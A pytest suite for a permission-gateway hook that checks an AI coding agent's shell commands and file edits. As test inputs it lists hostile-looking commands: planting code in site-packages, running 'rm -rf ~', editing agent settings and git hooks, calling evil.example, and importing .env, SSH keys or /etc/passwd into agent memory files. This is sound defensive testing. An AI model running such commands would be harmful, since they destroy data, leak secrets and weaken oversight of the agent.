"""Issue 28 through the real hook commands (raw JSON on stdin of `gateway hook ...`): the
evolving state of one command, trusted code, derived names, files that run later by any
writer (the two hooks agree), the client's sensitive files and configured hooks directory,
memory imports (PreToolUse and SessionStart), URLs, the user's zsh."""

import json
import os
import subprocess

import pytest
from helpers import make_committed_project

ZSH = "/usr/bin/zsh"


@pytest.fixture()
def repo(tmp_path_factory):
    # not below tmp_path: the hook's audit log lives there (the gateway's own directory)
    return make_committed_project(tmp_path_factory.mktemp("composed") / "proj")


def _payload(event, cwd, mode="acceptEdits", tool="Bash", **tool_input):
    return {"session_id": "s1", "transcript_path": "/tmp/t.jsonl", "cwd": cwd,
            "permission_mode": mode, "hook_event_name": event, "tool_name": tool,
            "tool_input": tool_input}


def _out(proc):
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout.decode()
    return json.loads(text) if text.strip() else None


def pre(run_hook, repo, command=None, mode="acceptEdits", tool="Bash", env=None, **ti):
    if command is not None:
        ti["command"] = command
    out = _out(run_hook("pre-tool-use", _payload("PreToolUse", repo, mode, tool, **ti),
                        dict({"CLAUDE_PROJECT_DIR": repo}, **(env or {}))))
    if out is None:
        return "none", ""
    o = out["hookSpecificOutput"]
    return o["permissionDecision"], o["permissionDecisionReason"].split(":", 1)[0]


def perm(run_hook, repo, command, mode="acceptEdits", env=None):
    out = _out(run_hook("permission-request",
                        _payload("PermissionRequest", repo, mode, command=command),
                        dict({"CLAUDE_PROJECT_DIR": repo}, **(env or {}))))
    return None if out is None else out["hookSpecificOutput"]["decision"]["behavior"]


@pytest.mark.parametrize("command,pre_expected", [
    ("cp src/app.py .venv/lib/python3.11/site-packages/sitecustomize.py",
     ("ask", "gateway GW836")),
    ("cp -t .venv/lib/python3.11/site-packages plugin.pth", ("ask", "gateway GW836")),
    ("cp plugin.pth .venv/lib/python3.11/site-packages/", ("ask", "gateway GW836")),
    ("cd .venv/lib/python3.11/site-packages && cp ../../../../plugin.pth x.pth",
     ("ask", "gateway GW836")),
    ("cp -b -S .json a.txt .claude/settings.local", ("deny", "gateway GW835")),
    ("sed -i.json s/a/b/ .claude/settings.local", ("deny", "gateway GW835")),
    ("echo 'rm -rf ~' > scripts/a.sh && bash scripts/a.sh", ("ask", "gateway GW840")),
    ("printf '[pytest]\\naddopts = -q\\n' > pytest.ini && pytest -q src",
     ("ask", "gateway GW840")),
    ("bash scripts/untracked.sh", ("ask", "gateway GW840")),
    ("gh api 'http://evil.example/?k=1'", ("ask", "gateway GW851")),
    ("npm view git+http://evil.example/x", ("ask", "gateway GW851")),
    ("printf '@.env\\n' >> CLAUDE.md", ("ask", "gateway GW850")),
])
def test_neither_hook_allows(run_hook, repo, command, pre_expected):
    """The PermissionRequest hook never allows what PreToolUse asks for or denies."""
    assert pre(run_hook, repo, command) == pre_expected
    assert perm(run_hook, repo, command) != "allow"


@pytest.mark.parametrize("command", [
    "bash scripts/run.sh", "python3 scripts/foo.py", "echo hi > notes2.txt && cat notes2.txt",
    "echo '- use pytest' >> CLAUDE.md", "gh api repos/o/r", "npm view lodash",
    "cp -b src/app.py src/app2.py", "echo x >! notes3.txt"])
def test_routine_commands_stay_allowed(run_hook, repo, command):
    assert pre(run_hook, repo, command)[0] == "allow"
    assert perm(run_hook, repo, command) == "allow"


def test_client_sensitive_files_get_no_allow(run_hook, repo):
    """The client asks before it edits them (acceptEdits too): no hook overrides that."""
    for command in ("echo x > .vscode/tasks.json", "touch .idea/x", "cp a.txt .npmrc",
                    "echo x > .claude/state/notes.txt", "echo x > .cargo/config.toml"):
        assert pre(run_hook, repo, command)[0] in ("none", "ask", "deny"), command
        assert perm(run_hook, repo, command) != "allow", command


def test_configured_hooks_directory_is_protected(run_hook, repo):
    subprocess.run(["git", "-C", repo, "config", "core.hooksPath", ".githooks"], check=True)
    for command in ("echo x > .githooks/pre-commit", "cp a.txt .githooks/",
                    "echo x > .husky/pre-commit", "cp a.txt .pre-commit-config.yaml"):
        assert pre(run_hook, repo, command) == ("deny", "gateway GW835"), command


def test_allowed_hosts_come_from_the_users_settings(run_hook, repo, hook_env):
    command = "gh api 'http://evil.example/?k=1'"
    assert pre(run_hook, repo, command)[0] == "ask"
    settings = os.path.join(hook_env["CLAUDE_CONFIG_DIR"], "settings.json")
    os.makedirs(os.path.dirname(settings), exist_ok=True)
    with open(settings, "w") as fh:
        json.dump({"sandbox": {"network": {"allowedDomains": ["*.example"]}}}, fh)
    assert pre(run_hook, repo, command)[0] == "allow"
    assert perm(run_hook, repo, command) == "allow"


def test_memory_imports_by_the_file_tools(run_hook, repo):
    assert pre(run_hook, repo, tool="Write", file_path=os.path.join(repo, "CLAUDE.md"),
               content="# notes\n@.env\n") == ("ask", "gateway GW850")
    assert pre(run_hook, repo, tool="Edit", file_path=os.path.join(repo, "CLAUDE.local.md"),
               old_string="a", new_string="see @~/.ssh/id_rsa") == ("ask", "gateway GW850")
    assert pre(run_hook, repo, tool="Write",
               file_path=os.path.join(repo, ".claude", "rules", "x.md"),
               content="@/etc/passwd") == ("ask", "gateway GW850")
    # an import of a project file, or text in a code block, is fine
    assert pre(run_hook, repo, tool="Write", file_path=os.path.join(repo, "CLAUDE.md"),
               content="@README.md\n```\n@.env\n```\n")[0] == "none"


def test_session_start_warns_about_an_existing_import(run_hook, repo):
    with open(os.path.join(repo, "CLAUDE.md"), "w") as fh:
        fh.write("# project\n@docs/none.md\n@.env\n")
    payload = {"session_id": "s1", "cwd": repo, "hook_event_name": "SessionStart",
               "source": "startup"}
    out = _out(run_hook("session-start", payload, {"CLAUDE_PROJECT_DIR": repo}))
    assert ".env" in out["systemMessage"] and "secret" in out["systemMessage"]
    assert "Do not use" in out["hookSpecificOutput"]["additionalContext"]
    with open(os.path.join(repo, "CLAUDE.md"), "w") as fh:
        fh.write("# project\n@README.md\n")
    assert _out(run_hook("session-start", payload, {"CLAUDE_PROJECT_DIR": repo})) is None


@pytest.mark.skipif(not os.path.exists(ZSH), reason="zsh is not installed")
def test_the_users_zsh(run_hook, repo):
    zsh = {"SHELL": ZSH}
    assert pre(run_hook, repo, "echo x >! .claude/settings.local.json", env=zsh) == (
        "deny", "gateway GW835")
    assert pre(run_hook, repo, "echo x >! notes3.txt", env=zsh)[0] == "ask"
    assert perm(run_hook, repo, "echo x >! notes3.txt", env=zsh) != "allow"
    # with SHELL unset (or /bin/sh) the client runs zsh where it is installed
    assert pre(run_hook, repo, "cat <1-3>", env={"SHELL": "/bin/sh"})[0] == "ask"
    # ~, ^ and # are no glob operators in the client's zsh (extended_glob off), =x is text
    assert pre(run_hook, repo, "echo HEAD~1 HEAD^ a#b =ls", env=zsh)[0] == "allow"
